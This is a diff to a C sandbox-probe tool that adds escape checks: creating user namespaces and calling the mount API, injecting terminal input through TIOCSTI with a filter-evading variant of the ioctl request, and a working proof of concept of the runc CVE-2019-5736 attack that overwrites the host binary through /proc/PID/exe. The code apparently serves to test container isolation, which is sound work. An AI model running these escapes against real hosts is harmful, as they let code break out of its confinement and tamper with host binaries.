@@ -15,6 +15,17 @@
  *   vert-probe capture IF SECS   (on the host) print "ready", then one line
  *                                per ICMPv6/UDP packet IF receives, until a
  *                                UDP packet to port 9999 or SECS pass
+ *   vert-probe nesting           try to make user namespaces and use the
+ *                                new mount API, print NAME=errno
+ *   vert-probe tiocsti           push a byte into each tty of fds 0-2
+ *                                and /dev/tty (TIOCSTI), print the result
+ *   vert-probe open-write PATH   open PATH for writing, print the result
+ *   vert-probe exe-attack ARG FIFO
+ *                                the runc CVE-2019-5736 attack: find the
+ *                                process whose argv[0] or [1] is ARG, open its
+ *                                /proc/PID/exe, release it (open FIFO for
+ *                                writing), and once it is gone try to
+ *                                write its first byte back through the fd
  */
 
 #include <dirent.h>
@@ -33,6 +44,9 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <time.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/ioctl.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -256,6 +270,169 @@ static int capture(const char *ifname, int secs)
 	return 1;
 }
 
+static void try_clone(const char *name, unsigned long flags)
+{
+	/* the raw syscall (x86 order: flags, stack, parent_tid, child_tid,
+	 * tls): the child exits at once */
+	long r = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
+	if (r == 0)
+		_exit(0);
+	if (r > 0)
+		waitpid((pid_t)r, NULL, 0);
+	printf("%s=%s\n", name, r < 0 ? strerrorname_np(errno) : "allowed");
+}
+
+static int nesting(void)
+{
+	struct {
+		unsigned long long flags, pidfd, child_tid, parent_tid, exit_signal, stack,
+			stack_size, tls;
+	} ca = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
+	long r;
+
+	try_clone("clone_newuser", CLONE_NEWUSER);
+	/* a plain fork through clone(2) must still work */
+	try_clone("clone_plain", 0);
+	r = syscall(SYS_clone3, &ca, sizeof(ca));
+	if (r == 0)
+		_exit(0);
+	if (r > 0)
+		waitpid((pid_t)r, NULL, 0);
+	printf("clone3=%s\n", r < 0 ? strerrorname_np(errno) : "allowed");
+	/* setns(2) of our own user namespace: EINVAL when allowed */
+	{
+		int fd = open("/proc/self/ns/user", O_RDONLY);
+		try("setns_user", SYS_setns, fd, CLONE_NEWUSER, 0, 0, 0);
+		if (fd >= 0)
+			close(fd);
+	}
+	try("fsopen", SYS_fsopen, (long)"tmpfs", 0, 0, 0, 0);
+	try("fspick", SYS_fspick, AT_FDCWD, (long)"/", 0, 0, 0);
+	try("fsconfig", SYS_fsconfig, -1, 0, 0, 0, 0);
+	try("fsmount", SYS_fsmount, -1, 0, 0, 0, 0);
+	try("open_tree", SYS_open_tree, AT_FDCWD, (long)"/", 0, 0, 0);
+	try("move_mount", SYS_move_mount, -1, (long)"", -1, (long)"", 0);
+	try("mount_setattr", SYS_mount_setattr, -1, (long)"", 0, 0, 0);
+	/* the last: unshare(2) succeeds when allowed, and we are then in a
+	 * new user namespace */
+	try("unshare_newuser", SYS_unshare, CLONE_NEWUSER, 0, 0, 0, 0);
+	return 0;
+}
+
+static void sti(const char *what, int fd)
+{
+	char c = '\n';
+	if (!isatty(fd)) {
+		printf("%s=notty\n", what);
+		return;
+	}
+	/* the request with high bits set too: the kernel only reads 32 */
+	if (ioctl(fd, TIOCSTI, &c) == 0 || syscall(SYS_ioctl, fd, 0x100000000UL | TIOCSTI, &c) == 0)
+		printf("%s=allowed\n", what);
+	else
+		printf("%s=%s\n", what, strerrorname_np(errno));
+	/* TIOCLINUX subcode 11 (TIOCL_GETKMSGREDIRECT): harmless, but on a
+	 * pty the kernel answers ENOTTY, not EPERM */
+	c = 11;
+	printf("%s_linux=%s\n", what,
+	       ioctl(fd, TIOCLINUX, &c) == 0 ? "allowed" : strerrorname_np(errno));
+}
+
+static int tiocsti(void)
+{
+	int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
+	sti("fd0", 0);
+	sti("fd1", 1);
+	sti("fd2", 2);
+	if (fd < 0)
+		printf("devtty=%s\n", strerrorname_np(errno));
+	else
+		sti("devtty", fd);
+	return 0;
+}
+
+static int open_write(const char *path)
+{
+	int fd = open(path, O_WRONLY);
+	printf("%s\n", fd < 0 ? strerrorname_np(errno) : "opened");
+	return 0;
+}
+
+static pid_t find_argv1(const char *arg)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	pid_t found = 0;
+
+	while (d && (de = readdir(d)) && !found) {
+		char p[64], buf[4096];
+		ssize_t n;
+		int fd;
+		if (atoi(de->d_name) <= 0 || atoi(de->d_name) == getpid())
+			continue;
+		snprintf(p, sizeof(p), "/proc/%d/cmdline", atoi(de->d_name));
+		fd = open(p, O_RDONLY);
+		if (fd < 0)
+			continue;
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		if (n <= 0)
+			continue;
+		buf[n] = '\0';
+		size_t l0 = strlen(buf);
+		if (strcmp(buf, arg) == 0 ||
+		    ((ssize_t)l0 + 1 < n && strcmp(buf + l0 + 1, arg) == 0))
+			found = atoi(de->d_name);
+	}
+	if (d)
+		closedir(d);
+	return found;
+}
+
+static int exe_attack(const char *arg, const char *fifo)
+{
+	char p[64], t[PATH_MAX];
+	pid_t pid = 0;
+	int fd, wfd;
+	ssize_t n;
+	char c;
+
+	for (int i = 0; i < 200 && !(pid = find_argv1(arg)); i++)
+		usleep(50000);
+	if (!pid) {
+		puts("target=notfound");
+		return 1;
+	}
+	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+	fd = open(p, O_RDONLY);
+	if (fd < 0) {
+		printf("exe=%s\n", strerrorname_np(errno));
+	} else {
+		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
+		n = readlink(p, t, sizeof(t) - 1);
+		t[n > 0 ? n : 0] = '\0';
+		printf("exe=%s\n", t);
+	}
+	/* release the target: its loader reads an empty preload */
+	close(open(fifo, O_WRONLY));
+	for (int i = 0; i < 200 && kill(pid, 0) == 0; i++)
+		usleep(50000);
+	if (fd < 0)
+		return 0;
+	/* what is written is what was there: a write that works changes
+	 * nothing, but shows that it could */
+	wfd = open(p, O_WRONLY);
+	if (wfd < 0) {
+		printf("write=%s\n", strerrorname_np(errno));
+		return 0;
+	}
+	if (pread(fd, &c, 1, 0) != 1 || pwrite(wfd, &c, 1, 0) != 1)
+		printf("write=%s\n", strerrorname_np(errno));
+	else
+		puts("write=ok");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	if (argc >= 2 && strcmp(argv[1], "syscalls") == 0)
@@ -276,5 +453,15 @@ int main(int argc, char **argv)
 		return deep(argv[2], atol(argv[3]));
 	fprintf(stderr,
 		"usage: vert-probe syscalls|fds|zombies N|exe-write|deep|icmp6|udp|capture\n");
+	if (argc >= 2 && strcmp(argv[1], "nesting") == 0)
+		return nesting();
+	if (argc >= 2 && strcmp(argv[1], "tiocsti") == 0)
+		return tiocsti();
+	if (argc >= 3 && strcmp(argv[1], "open-write") == 0)
+		return open_write(argv[2]);
+	if (argc >= 4 && strcmp(argv[1], "exe-attack") == 0)
+		return exe_attack(argv[2], argv[3]);
+	fprintf(stderr, "usage: vert-probe syscalls|fds|zombies N|exe-write|nesting|tiocsti|"
+			"open-write PATH|exe-attack ARG FIFO\n");
 	return 2;
 }
